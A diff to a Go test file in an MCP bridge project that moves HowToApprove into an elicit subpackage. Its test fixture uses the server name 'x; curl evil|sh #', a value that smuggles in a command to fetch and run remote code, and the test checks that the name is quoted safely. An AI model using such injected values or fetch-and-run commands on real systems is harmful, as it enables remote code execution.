@@ -9,7 +9,7 @@ import (
 	"strings"
 	"testing"
 
-	"github.com/mcp-bridge/mcp-bridge/bridge"
+	"github.com/mcp-bridge/mcp-bridge/bridge/elicit"
 	"github.com/mcp-bridge/mcp-bridge/discovery"
 )
 
@@ -92,11 +92,11 @@ func TestApproveElsewhere(t *testing.T) {
 
 func TestHowToApprove(t *testing.T) {
 	s := discovery.Server{Name: "x; curl evil|sh #"}
-	if got, want := bridge.HowToApprove(s, "this directory"), "to allow it, run: mcp-bridge servers approve 'x; curl evil|sh #'"; got != want {
+	if got, want := elicit.HowToApprove(s, "this directory"), "to allow it, run: mcp-bridge servers approve 'x; curl evil|sh #'"; got != want {
 		t.Errorf("%s, want %s", got, want)
 	}
 	s.Source.Scope = discovery.Listed
-	if got, want := bridge.HowToApprove(s, "this directory"), "to allow it, in this directory, run: mcp-bridge servers approve 'x; curl evil|sh #'"; got != want {
+	if got, want := elicit.HowToApprove(s, "this directory"), "to allow it, in this directory, run: mcp-bridge servers approve 'x; curl evil|sh #'"; got != want {
 		t.Errorf("%s, want %s", got, want)
 	}
 }
